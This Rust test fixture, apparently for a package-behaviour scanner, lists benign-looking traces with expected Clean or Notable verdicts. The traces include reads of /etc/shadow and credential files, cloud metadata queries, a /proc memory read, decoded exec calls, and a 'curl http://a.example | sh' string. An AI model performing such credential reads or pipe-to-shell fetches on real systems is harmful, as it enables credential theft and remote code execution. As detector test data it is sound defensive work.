//! What harmless packages do that looks like harm.

use pyti_model::outcome::Verdict::{Clean, Notable};
use pyti_model::trace::{Deed, Origin};

use super::super::world::World;
use super::{AWS, Row, SITE, becomes, fails, home, import, installed, many, start};

pub(super) fn look_alikes() -> Vec<Row> {
    let gcc = |world: World, out: &str| {
        world
            .spawn()
            .runs(&format!("gcc -c -o {out} x.c"))
            .spawn()
            .runs("/usr/lib/gcc/x86_64-linux-gnu/12/cc1 x.c -o /tmp/ccA.s")
            .write("/tmp/ccA.s")
            .process(1)
            .spawn()
            .runs(&format!("as -o {out} /tmp/ccA.s"))
            .write(out)
    };
    vec![
        (
            1,
            Clean,
            &[],
            [
                "lsb_release -a",
                "getopt --version",
                "uname -rs",
                "rustc --version",
            ]
            .iter()
            .fold(World::of("install"), |world, command| {
                world.process(0).spawn().runs(command)
            })
            .read("/etc/os-release")
            .read("/etc/debian_version")
            .read("/proc/self/maps")
            .read("/proc/self/cgroup"),
        ),
        (
            2,
            Clean,
            &[],
            import()
                .look("/etc/shadow")
                .look("/etc/gshadow")
                .look("/etc/passwd-"),
        ),
        (3, Clean, &[], import().binds("::1", 0)),
        (
            4,
            Clean,
            &[],
            import().write("/tmp/8a_x92kd").remove("/tmp/8a_x92kd"),
        ),
        (
            5,
            Clean,
            &[],
            many(import(), 17, |w, _| fails(w, "no-such-compiler")).runs("true"),
        ),
        (
            6,
            Clean,
            &[],
            gcc(gcc(World::of("build"), "/home/dev/src/a.o"), "/home/dev/src/b.o"),
        ),
        (
            7,
            Clean,
            &[],
            gcc(World::of("build"), "/home/dev/src/conftest.o")
                .write("/home/dev/src/conftest")
                .process(0)
                .spawn()
                .executes("/home/dev/src/conftest", "./conftest", Origin::Written, &[]),
        ),
        (
            8,
            Clean,
            &[],
            [
                "git rev-parse --show-toplevel",
                "git describe --dirty --tags --long",
                "git log -n 1 HEAD",
                "git check-attr export-subst -- .",
            ]
            .iter()
            .fold(World::of("build"), |world, command| {
                world.process(0).spawn().runs(command)
            })
            .read("/home/dev/.gitconfig")
            .write("/home/dev/src/.git/index.lock")
            .rename("/home/dev/src/.git/index.lock", "/home/dev/src/.git/index"),
        ),
        (
            9,
            Clean,
            &[],
            import()
                .spawn()
                .runs("/sbin/ldconfig -p")
                .process(0)
                .spawn()
                .runs("gcc -Wl,-t -o /tmp/tmpabcdefgh -lssl")
                .write("/tmp/tmpabcdefgh")
                .process(0)
                .spawn()
                .runs("ld -t -o /dev/null -lssl")
                .process(0)
                .remove("/tmp/tmpabcdefgh"),
        ),
        (
            10,
            Clean,
            &[],
            import()
                .unix("/run/uuidd/request")
                .write("/var/lib/libuuid/clock.txt")
                .spawn()
                .runs("ip link"),
        ),
        (
            11,
            Clean,
            &[],
            import()
                .unix("/var/run/nscd/socket")
                .unix("/var/run/nscd/socket")
                .read("/etc/nsswitch.conf")
                .read("/etc/passwd"),
        ),
        (
            12,
            Clean,
            &[],
            import()
                .does(Deed::Inquire {
                    call: "sched_getaffinity".into(),
                })
                .read("/sys/devices/system/cpu/possible")
                .read("/sys/devices/system/cpu/online")
                .read("/proc/self/cgroup")
                .read("/sys/fs/cgroup/cpu/cpu.cfs_quota_us")
                .read("/proc/cpuinfo"),
        ),
        (
            13,
            Clean,
            &[],
            many(World::of("scripts").list("/proc"), 30, |w, n| {
                ["cmdline", "status", "stat", "environ"]
                    .iter()
                    .fold(w, |w, file| w.read(&format!("/proc/{}/{file}", 100 + n)))
            }),
        ),
        (
            14,
            Clean,
            &[],
            import()
                .spawn()
                .runs("fc-list --format=%{file}")
                .write("/var/cache/fontconfig/x.cache-7")
                .process(0)
                .write(&home(".cache/matplotlib/fontlist.json"))
                .write(&home(".config/matplotlib/matplotlibrc")),
        ),
        // what it reads is for it; that it then speaks is said, and is not held against it
        (
            15,
            Notable,
            &["decoy-read", "decoy-read-then-contact"],
            World::of("scripts")
                .read(AWS)
                .asks("GET", "storage.example", "/bucket", ""),
        ),
        (
            16,
            Clean,
            &[],
            many(
                World::of("scripts")
                    .read(&home(".netrc"))
                    .look(&home(".config/gcloud/application_default_credentials.json"))
                    .read("/sys/class/dmi/id/product_name"),
                3,
                |w, _| {
                    w.talks(
                        "metadata",
                        "169.254.169.254",
                        80,
                        "169.254.169.254",
                        "GET",
                        "/",
                        "",
                    )
                },
            ),
        ),
        // a weak word for the read, none for the socket
        (
            17,
            Clean,
            &["decoy-read"],
            World::of("scripts")
                .read(&home(".docker/config.json"))
                .read(&home(".netrc"))
                .unix("/var/run/docker.sock"),
        ),
        (
            18,
            Clean,
            &[],
            import()
                .look(&home(".kube/config"))
                .look(&home(".config/gcloud/certificate_config.json"))
                .look("/var/run/secrets/kubernetes.io/serviceaccount"),
        ),
        (
            19,
            Clean,
            &[],
            World::of("scripts")
                .read(&home(".netrc"))
                .asks("GET", "api.example", "/v1", ""),
        ),
        (
            20,
            Clean,
            &[],
            import()
                .spawn()
                .runs("git version")
                .process(0)
                .read(&home(".gitconfig")),
        ),
        (
            21,
            Clean,
            &[],
            ["xclip", "xsel", "wl-copy", "wl-paste", "klipper"]
                .iter()
                .fold(import().read("/proc/version"), |world, tool| {
                    world.look(&format!("/usr/bin/{tool}"))
                }),
        ),
        (
            22,
            Clean,
            &[],
            World::of("test")
                .write("/dev/shm/sem.mp-abcd")
                .spawn()
                .runs(
                    "/home/dev/venv/bin/python -c from multiprocessing.resource_tracker import main;main(5)",
                )
                .process(0)
                .binds("127.0.0.1", 0)
                .listens("127.0.0.1", 41000)
                .connects("127.0.0.1", 41000)
                .does(Deed::Signal { target: 4, signal: 9 })
                .survives("python -c from multiprocessing.resource_tracker import main;main(5)"),
        ),
        (
            23,
            Clean,
            &[],
            many(World::of("test").spawn(), 50, |w, n| {
                w.write(&format!("/tmp/tmpx/{n}.txt"))
                    .remove(&format!("/tmp/tmpx/{n}.txt"))
            })
            .runs("rm -rf /tmp/tmpx")
            .write(&home(".tests/settings"))
            .remove(&home(".tests/settings"))
            .resolves("no-such-host.invalid")
            .does(Deed::Signal { target: 4, signal: 9 }),
        ),
        (
            24,
            Clean,
            &[],
            World::of("build")
                .asks("GET", "sources.example", "/library-1.0.tar.gz", "")
                .write("/home/dev/src/build/library-1.0.tar.gz"),
        ),
        (
            25,
            Clean,
            &["somebody-contacted"],
            import().asks(
                "POST",
                "telemetry.example",
                "/v1/events",
                r#"{"library": "sample", "version": "1.0.0"}"#,
            ),
        ),
        (
            26,
            Clean,
            &[],
            World::of("test")
                .spawn()
                .does(Deed::Ptrace {
                    request: "traceme".into(),
                    target: 0,
                })
                .process(0)
                .read("/proc/9/maps")
                .read("/proc/9/mem"),
        ),
        (
            27,
            Clean,
            &[],
            import().does(Deed::Memory {
                name: "libffi".into(),
            }),
        ),
        (
            28,
            Clean,
            &[],
            becomes(import(), "prctl set_name", "worker: idle"),
        ),
        (
            29,
            Clean,
            &[],
            start(
                "import __editable___sample_1_0_finder; __editable___sample_1_0_finder.install()\n",
                "__editable___sample_1_0_finder",
            ),
        ),
        (
            30,
            Clean,
            &[],
            installed().holds(&format!("{SITE}/sample/data.py"), "'curl http://a.example | sh'"),
        ),
        (
            31,
            Clean,
            &["decoded-code-run"],
            ["marshal.loads", "exec"].iter().fold(import(), |world, name| {
                world.does(Deed::Audit {
                    name: (*name).into(),
                    text: "<protected>".into(),
                })
            }),
        ),
    ]
}
